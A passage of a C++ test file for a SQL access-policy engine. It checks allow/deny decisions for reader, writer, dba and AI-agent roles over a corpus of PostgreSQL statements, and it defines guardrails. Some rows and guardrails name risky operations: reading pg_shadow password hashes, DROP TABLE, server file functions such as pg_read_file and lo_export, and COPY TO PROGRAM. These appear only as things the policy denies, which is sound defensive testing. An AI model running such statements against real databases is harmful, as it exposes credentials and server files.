    {"MetabaseTablesQuery", "reader", R"__(SELECT n.nspname AS schema, c.relname AS name, d.description FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace LEFT JOIN pg_catalog.pg_description d ON d.objoid = c.oid AND d.objsubid = 0 WHERE c.relkind IN ('r', 'v', 'm', 'f', 'p') AND n.nspname NOT IN ('information_schema', 'pg_catalog'))__", "select", "read", "allow", "readers"},
    {"JdbcServerVersionQuery", "reader", R"__(SELECT pg_catalog.current_setting('server_version_num'))__", "select", "read", "allow", "readers"},
    {"UnqualifiedPgClassResolvesToTheCatalog", "reader", R"__(SELECT count(*) FROM pg_class)__", "select", "read", "allow", "readers"},
    {"UnqualifiedPgClassIsCatalogForWriterToo", "writer", R"__(SELECT count(*) FROM pg_class)__", "select", "read", "allow", "writers"},
    {"PgStatActivityIsCatalog", "reader", R"__(SELECT pid, state FROM pg_stat_activity)__", "select", "read", "allow", "readers"},
    {"UnparseableIsUnanalyzable", "reader", R"__(SELEC 1)__", "unknown", "unknown", "unanalyzable", "unanalyzable"},
    {"GarbageIsUnanalyzable", "reader", R"__()(*&^%)__", "unknown", "unknown", "unanalyzable", "unanalyzable"},
    {"UnterminatedStringIsUnanalyzable", "reader", R"__(SELECT 'abc)__", "unknown", "unknown", "unanalyzable", "unanalyzable"},
    {"UnterminatedCommentIsUnanalyzable", "reader", R"__(SELECT 1 /* DROP TABLE t)__", "unknown", "unknown", "unanalyzable", "unanalyzable"},
    {"HalfValidMultiStatementIsUnanalyzable", "dba", R"__(SELECT 1; DRO TABLE t)__", "unknown", "unknown", "unanalyzable", "unanalyzable"},
    {"EmptyStatementIsAllowed", "reader", R"__()__", "select", "session", "allow", "session-statement"},
    {"OnlySemicolonsIsAllowed", "reader", R"__(;;;)__", "select", "session", "allow", "session-statement"},
    {"WriterReadsInformationSchemaAsIntrospection", "writer", R"__(SELECT * FROM information_schema.tables)__", "select", "read", "allow", "writers"},
    {"WriterCannotReadPasswordHashes", "writer", R"__(SELECT * FROM pg_catalog.pg_shadow)__", "select", "read", "deny", "default-deny"},
    {"DbaReadsAnyTable", "dba", R"__(SELECT * FROM secret.b)__", "select", "read", "allow", "dba"},
    {"AgentWritesAnything", "agent", R"__(INSERT INTO secret.b VALUES (1))__", "insert", "write", "allow", "agents"},
    {"AgentDropIsStillBlocked", "agent", R"__(DROP TABLE secret.b)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"ReaderFunctionInFromIsRead", "reader", R"__(SELECT * FROM generate_series(1, 10))__", "select", "read", "allow", "readers"},
    {"NextvalIsAWrite", "reader", R"__(SELECT nextval('public.sq'))__", "select", "write", "deny", "default-deny"},
    {"ReaderWindowFunctionIsRead", "reader", R"__(SELECT row_number() OVER (ORDER BY id) FROM public.t)__", "select", "read", "allow", "readers"},
    {"ReaderAggregateFilterIsRead", "reader", R"__(SELECT count(*) FILTER (WHERE id > 1) FROM public.t)__", "select", "read", "allow", "readers"},
    {"ReaderCastsAreRead", "reader", R"__(SELECT '1'::int, CAST('2' AS bigint), 'secret.b'::regclass)__", "select", "read", "allow", "readers"},
    {"ReaderTablesampleIsRead", "reader", R"__(SELECT * FROM public.t TABLESAMPLE SYSTEM (10))__", "select", "read", "allow", "readers"},
    {"ReaderOnlyInheritanceIsRead", "reader", R"__(SELECT * FROM ONLY public.t)__", "select", "read", "allow", "readers"},
    {"ReaderCaseInsensitiveSchemaIsFolded", "reader", R"__(SELECT * FROM PUBLIC.T)__", "select", "read", "allow", "readers"},
    {"ReaderQuotedUppercaseSchemaIsDifferent", "reader", R"__(SELECT * FROM "PUBLIC".t)__", "select", "read", "deny", "default-deny"},
    {"ReaderThreePartNameUsesItsSchema", "reader", R"__(SELECT * FROM app.secret.b)__", "select", "read", "deny", "default-deny"},
    {"ReaderJsonFunctionsAreRead", "reader", R"__(SELECT row_to_json(t), json_build_object('a', 1) FROM public.t)__", "select", "read", "allow", "readers"},
    {"ReaderStringAggIsRead", "reader", R"__(SELECT string_agg(v, ',') FROM public.t)__", "select", "read", "allow", "readers"},
    {"ReaderSecretInExistsIsDenied", "reader", R"__(SELECT EXISTS (SELECT 1 FROM secret.b))__", "select", "read", "deny", "default-deny"},
    {"ReaderSecretInCaseIsDenied", "reader", R"__(SELECT CASE WHEN (SELECT count(*) FROM secret.b) > 0 THEN 1 END)__", "select", "read", "deny", "default-deny"},
    {"ReaderSecretInHavingIsDenied", "reader", R"__(SELECT id FROM public.t GROUP BY id HAVING count(*) > (SELECT count(*) FROM secret.b))__", "select", "read", "deny", "default-deny"},
    {"ReaderSecretInJoinOnIsDenied", "reader", R"__(SELECT * FROM public.a JOIN public.b ON b.id = (SELECT min(id) FROM secret.c))__", "select", "read", "deny", "default-deny"},
    {"ReaderSecretInArrayIsDenied", "reader", R"__(SELECT ARRAY(SELECT id FROM secret.b))__", "select", "read", "deny", "default-deny"},
    {"ReaderSecretInValuesIsDenied", "reader", R"__(VALUES ((SELECT id FROM secret.b LIMIT 1)))__", "select", "read", "deny", "default-deny"},
    {"SetvalIsAWrite", "reader", R"__(SELECT setval('public.sq', 1))__", "select", "write", "deny", "default-deny"},
    {"TerminateBackendIsAdmin", "reader", R"__(SELECT pg_terminate_backend(123))__", "select", "admin", "deny", "default-deny"},
    {"ReloadConfIsAdmin", "reader", R"__(SELECT pg_reload_conf())__", "select", "admin", "deny", "default-deny"},
    {"PgNotifyIsAWrite", "reader", R"__(SELECT pg_notify('ch', 'x'))__", "select", "write", "deny", "default-deny"},
    {"UserFunctionNamedNextvalInOtherSchemaIsRead", "reader", R"__(SELECT public.nextval('x'))__", "select", "read", "allow", "readers"},
};
// clang-format on

AccessRule rule(std::string name, std::string group, std::vector<Action> actions,
                std::vector<std::string> tables) {
  AccessRule r;
  r.name = std::move(name);
  r.groups = {std::move(group)};
  r.connections = {"app"};
  r.actions = std::move(actions);
  r.tables = std::move(tables);
  return r;
}

Guardrail guardrail(std::string name, std::vector<model::Kind> kinds, bool without_where = false,
                    std::vector<std::string> functions = {}, std::vector<std::string> groups = {}) {
  Guardrail g;
  g.name = std::move(name);
  g.statements = std::move(kinds);
  g.without_where = without_where;
  g.functions = std::move(functions);
  g.groups = std::move(groups);
  return g;
}

// The sample policy of config.md, with a reader, a writer, a dba and an agent.
Policy sample_policy() {
  using A = Action;
  using K = model::Kind;
  Policy p;
  p.version = 7;
  p.access.rules = {
      rule("readers", "readers", {A::kRead}, {"public.*", "pg_catalog.*", "information_schema.*"}),
      rule("writers", "writers", {A::kRead, A::kWrite}, {"public.*"}),
      rule("dba", "dba", {A::kRead, A::kWrite, A::kDdl, A::kAdmin}, {}),
      rule("agents", "ai-agents", {A::kRead, A::kWrite, A::kDdl, A::kAdmin}, {}),
  };
  p.guardrails = {
      guardrail("no-destructive-ddl", {K::kDrop, K::kTruncate, K::kAlterSystem}),
      guardrail("no-unbounded-writes", {K::kUpdate, K::kDelete}, true),
      guardrail("no-server-file-access", {}, false,
                {"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export",
                 "dblink*"}),
      guardrail("no-dynamic-sql-for-agents", {K::kDo, K::kCall, K::kCreateFunction}, false, {},
                {"ai-agents"}),
      guardrail("no-traces-export-to-files",
                {K::kCopyToFile, K::kCopyFromFile, K::kCopyToProgram, K::kCopyFromProgram}),
  };
  return p;
}

model::Principal principal(const std::string& who) {
  model::Principal p;
  p.subject = who + "-1";
  p.groups = {who == "reader"   ? "readers"
              : who == "writer" ? "writers"
              : who == "agent"  ? "ai-agents"
                                : "dba"};
  return p;
}

class Corpus : public ::testing::TestWithParam<Row> {};

TEST_P(Corpus, AnalysisAndDecision) {
  const Row& row = GetParam();
  static const Policy policy = sample_policy();
  // SQL-level prepared statements the EXECUTE rows refer to.
  PreparedStatements prepared;
  prepared["sel"] = std::make_shared<model::Analysis>(
      sql::analyze("PREPARE sel AS SELECT * FROM public.t WHERE id = $1"));
  prepared["del"] = std::make_shared<model::Analysis>(
      sql::analyze("PREPARE del AS DELETE FROM public.t WHERE id = $1"));
  SessionView view;
  view.search_paths = {{"public"}};
  view.session_user = "svc";
  view.prepared = &prepared;

  const model::Analysis a = sql::analyze(row.sql);
  EXPECT_EQ(model::kind_name(a.kind), row.kind) << row.sql << " — " << a.error;
  EXPECT_EQ(model::class_name(a.cls), row.cls) << row.sql;
  const Decision d = decide(policy, principal(row.who), "app", a, view);
  const char* outcome = d.outcome == Decision::Outcome::kAllow  ? "allow"
                        : d.outcome == Decision::Outcome::kDeny ? "deny"
                                                                : "unanalyzable";
  EXPECT_STREQ(outcome, row.outcome) << row.sql << " — " << d.rule << ": " << d.what;
  EXPECT_EQ(d.rule, row.rule) << row.sql << " — " << d.what;
  EXPECT_EQ(d.policy_version, 7u);
}

INSTANTIATE_TEST_SUITE_P(Statements, Corpus, ::testing::ValuesIn(kCorpus),
                         [](const ::testing::TestParamInfo<Row>& info) {
                           return std::string(info.param.name);
                         });

TEST(MaskedPredicates, TheGuardrailDeniesOnlyWhatFiltersOnAMaskedColumn) {
  Policy policy = sample_policy();
  Guardrail g;
  g.name = "no-inference";
  g.groups = {"ai-agents"};
  g.masked_columns_in_predicates = true;
  policy.guardrails.push_back(g);
  SessionView view;
  view.search_paths = {{"public"}};
  const model::Analysis a = sql::analyze("SELECT id FROM public.t WHERE email LIKE 'a%'");
  const model::Principal reader = principal("reader");
  const model::Principal agent = principal("agent");
  auto before = decide(policy, agent, "app", a, view);
  view.masked_predicate = "public.t.email";
  auto agent_d = decide(policy, agent, "app", a, view);
  auto reader_d = decide(policy, reader, "app", a, view);
  EXPECT_EQ(agent_d.outcome, Decision::Outcome::kDeny);
  EXPECT_EQ(agent_d.rule, "no-inference");
  EXPECT_NE(agent_d.what.find("masked column public.t.email"), std::string::npos) << agent_d.what;
  // Not in the guardrail's groups, or nothing masked in the condition: as without it.
  EXPECT_NE(reader_d.rule, "no-inference");
  EXPECT_NE(before.rule, "no-inference");
}

TEST(CorpusSize, AtLeastTwoHundredStatements) {
  EXPECT_GE(sizeof kCorpus / sizeof kCorpus[0], 200u);
}

}  // namespace
}  // namespace gh::policy
